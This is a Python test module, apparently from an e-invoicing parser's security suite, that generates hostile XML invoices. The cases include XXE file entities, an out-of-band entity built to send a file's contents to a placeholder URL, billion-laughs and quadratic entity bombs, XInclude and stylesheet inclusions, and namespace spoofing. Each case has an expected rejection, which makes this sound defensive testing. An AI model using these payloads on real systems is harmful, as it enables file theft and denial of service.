"""Write XML that attacks its reader: entities, inclusions, names that are not what they seem."""

from __future__ import annotations

from collections.abc import Iterator

from tests.einvoicing.hostile.cases import Case, case
from tests.einvoicing.hostile.xml_encodings import encodings
from tests.einvoicing.hostile.xml_values import values

NUMBER = "<ram:ID>F-2026-001<"
XSI = "http://www.w3.org/2001/XMLSchema-instance"
PAYABLE = "<ram:DuePayableAmount>1000.00<"


def cases(cii: str, ubl: str, canary: str, url: str) -> Iterator[Case]:
    """Give each file; `canary` is the URI of a file not to be read, `url` one not to be called."""
    yield from _entities(cii, canary, url)
    yield from _inclusions(cii, canary, url)
    yield from encodings(cii)
    yield from _shapes(cii, ubl)
    yield from values(cii)


def with_doctype(cii: str, doctype: str, number: str = "&e;") -> bytes:
    """Put a DOCTYPE after the declaration, and an entity where the number stands."""
    declaration, _, rest = cii.partition("?>")
    return f"{declaration}?>{doctype}{rest}".replace("F-2026-001", number).encode()


def _entities(cii: str, canary: str, url: str) -> Iterator[Case]:
    file = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{canary}">]>'
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    doctypes = {
        "file entity": file,
        "file entity by PUBLIC": f'<!DOCTYPE x [<!ENTITY e PUBLIC "-//X//Y" "{canary}">]>',
        "parameter entity": f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{url}p.dtd"> %p;]>',
        "entity out over the network": f'<!DOCTYPE x [<!ENTITY % f SYSTEM "{canary}">'
        f"<!ENTITY % all \"<!ENTITY send SYSTEM '{url}?%f;'>\"> %all;]>",
        "external DTD": f'<!DOCTYPE x SYSTEM "{url}x.dtd">',
        "external DTD in a file": f'<!DOCTYPE x SYSTEM "{canary}">',
        "internal entity": '<!DOCTYPE x [<!ENTITY e "INJECTE">]>',
        "attribute default": "<!DOCTYPE x [<!ATTLIST x y CDATA 'INJECTE'>]>",
        "billion laughs": f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}<!ENTITY e "&l9;">]>',
        "recursive entity": '<!DOCTYPE x [<!ENTITY e "&f;"><!ENTITY f "&e;">]>',
        "doctype after a comment": "<!-- a --><?pi b?> <!DOCTYPE x>",
    }
    for name, doctype in doctypes.items():
        yield case(name, with_doctype(cii, doctype), "xml_doctype")
    quadratic = f'<!DOCTYPE x [<!ENTITY e "{"a" * 100_000}">]>'
    yield case("quadratic", with_doctype(cii, quadratic, "&e;" * 100_000), "xml_doctype")
    for codec in ("utf-16", "utf-16-le", "utf-16-be", "utf-8-sig"):
        label = "UTF-8" if codec == "utf-8-sig" else "UTF-16"
        hidden = with_doctype(cii, file).decode().replace("UTF-8", label).encode(codec)
        yield case(f"file entity in {codec}", hidden, "xml_doctype")
    yield case("doctype in lower case", with_doctype(cii, file.lower()), "xml_malformed")
    yield case("undeclared entity", cii.replace("F-2026-001", "&e;").encode(), "xml_malformed")
    long = b"<!--" + b"x" * 5_000_000 + b"-->"
    yield case(
        "doctype behind megabytes of comment",
        with_doctype(cii, file).replace(b"<!DOCTYPE", long + b"<!DOCTYPE", 1),
        "xml_doctype",
    )
    yield case("doctype after the root", cii.encode() + file.encode(), "xml_malformed")
    many = b"<!-- -->" * 500_000
    yield case(
        "doctype behind half a million comments",
        with_doctype(cii, file).replace(b"<!DOCTYPE", many + b"<!DOCTYPE", 1),
        "xml_doctype",
    )


def _inclusions(cii: str, canary: str, url: str) -> Iterator[Case]:
    root = "<rsm:CrossIndustryInvoice"
    include = (
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{canary}" parse="text"/>'
    )
    yield case("XInclude", cii.replace(NUMBER, f"<ram:ID>{include}<").encode(), "mixed_content")
    fallback = include.replace(canary, f"{url}f.xml").replace("text", "xml")
    yield case(
        "XInclude over the network",
        cii.replace("<rsm:ExchangedDocument>", f"<rsm:ExchangedDocument>{fallback}").encode(),
        "ok",
    )
    schema = (
        f'{root} xmlns:xsi="{XSI}" '
        f'xsi:schemaLocation="urn:x {canary} urn:y {url}y.xsd" '
        f'xsi:noNamespaceSchemaLocation="{url}"'
    )
    yield case("schemaLocation", cii.replace(root, schema, 1).encode(), "ok")
    for target in (canary, url):
        sheet = f'<?xml-stylesheet type="text/xsl" href="{target}"?>{root}'
        name = f"stylesheet {'in a file' if target == canary else 'over the network'}"
        yield case(name, cii.replace(root, sheet, 1).encode(), "ok")
    base = cii.replace(root, f'{root} xml:base="{url}"', 1).encode()
    yield case("xml:base", base, "ok")


def _shapes(cii: str, ubl: str) -> Iterator[Case]:
    ram = "ReusableAggregateBusinessInformationEntity:100"
    yield case(
        "same names in a foreign namespace",
        cii.replace(ram, "Fake:1").encode(),
        "missing_number",
        "missing_issue_date",
    )
    foreign = f'<x:ID xmlns:x="urn:fake">FAUX-1</x:ID>{NUMBER}'
    yield case(
        "a foreign number first",
        cii.replace(NUMBER, foreign).encode(),
        "ok",
        shows='"F-2026-001"',
        hides="FAUX-1",
    )
    bare = f'<ID xmlns="">FAUX-1</ID>{NUMBER}'
    yield case("a number in no namespace", cii.replace(NUMBER, bare).encode(), "ok", hides="FAUX-1")
    tags = cii
    for before, after in (("ram", "tmp"), ("rsm", "ram"), ("tmp", "rsm")):
        tags = tags.replace(f"<{before}:", f"<{after}:").replace(f"</{before}:", f"</{after}:")
    yield case("prefixes swapped, bound to the wrong names", tags.encode(), "unknown_root")
    bound = tags.replace("xmlns:ram=", "xmlns:x=").replace("xmlns:rsm=", "xmlns:ram=")
    swapped = bound.replace("xmlns:x=", "xmlns:rsm=")
    yield case("prefixes swapped", swapped.encode(), "ok", shows='"F-2026-001"')
    default = cii.replace("<rsm:", "<").replace("</rsm:", "</").replace("xmlns:rsm=", "xmlns=")
    yield case("a default namespace", default.encode(), "ok", shows='"F-2026-001"')
    nested = f'<ram:ID xmlns:ram="urn:fake">FAUX-1</ram:ID>{NUMBER}'
    yield case(
        "a prefix bound anew inside", cii.replace(NUMBER, nested).encode(), "ok", hides="FAUX-1"
    )
    yield case(
        "a prefix never bound", cii.replace(NUMBER, f"<zzz:a/>{NUMBER}").encode(), "xml_malformed"
    )
    case_changed = cii.replace("<ram:ID>F-2026-001</ram:ID>", "<ram:Id>F-2026-001</ram:Id>")
    yield case("another case", case_changed.encode(), "missing_number")
    upper = cii.replace(
        "urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100",
        "URN:UN:UNECE:uncefact:data:standard:CrossIndustryInvoice:100",
    )
    yield case("a namespace in another case", upper.encode(), "unknown_root")
    for name, split in {
        "a comment inside a value": "F-2026<!-- -9999 -->-001",
        "an instruction inside a value": "F-2026<?pi -9999 ?>-001",
        "CDATA": "<![CDATA[F-2026-001]]>",
        "CDATA in parts": "F-<![CDATA[2026]]>-0<![CDATA[]]>01",
        "character references": "&#70;-&#x32;026-001",
        "comments before and after": "<!-- 1 -->F-2026-001<!-- 2 -->",
    }.items():
        text = cii.replace(NUMBER, f"<ram:ID>{split}<")
        yield case(name, text.encode(), "ok", shows='"number": "F-2026-001"', hides="9999")
    markup = cii.replace(NUMBER, "<ram:ID><![CDATA[<ram:ID>X</ram:ID>]]><")
    yield case("markup in CDATA", markup.encode(), "ok", shows="<ram:ID>X</ram:ID>")
    yield case(
        "CDATA never closed", cii.replace(NUMBER, "<ram:ID><![CDATA[F<").encode(), "xml_malformed"
    )
    children = cii.replace(NUMBER, "<ram:ID>F-2026<b>-9999</b>-001<")
    yield case(
        "elements inside a value",
        children.encode(),
        "mixed_content",
        issues=frozenset({"missing_number"}),
    )
    ids = cii.replace("<ram:ID>", '<ram:ID xml:id="a">').replace("<ram:Name>", '<ram:Name ID="a">')
    yield case("the same id everywhere", ids.encode(), "ok", "xml_malformed")
    twice = cii.replace("<ram:TypeCode>380", '<ram:TypeCode a="1" a="2">380')
    yield case("an attribute twice", twice.encode(), "xml_malformed")
    other = cii.replace(NUMBER, f"<ram:ID>AUTRE</ram:ID>{NUMBER}")
    yield case("two numbers", other.encode(), "ok", issues=frozenset({"repeated_term"}))
    yield case("two roots", cii.encode() + cii.partition("?>")[2].encode(), "xml_malformed")
    inside = ubl.replace("</Invoice>", cii.partition("?>")[2] + "</Invoice>")
    yield case("an invoice inside an invoice", inside.encode(), "ok")
    old = cii.replace('version="1.0"', 'version="1.1"')
    yield case("XML 1.1", old.encode(), "ok", "xml_malformed")
    nil = cii.replace(
        PAYABLE,
        f'<ram:DuePayableAmount xmlns:xsi="{XSI}" xsi:nil="true">1000.00<',
    )
    yield case("a value said nil", nil.encode(), "ok")
    direction = cii.replace(
        "Atelier Exemple", "\u202eelpmexE\u202c\u0000".replace("\0", "") + "\u200b"
    )
    yield case("text that runs backwards", direction.encode(), "ok")
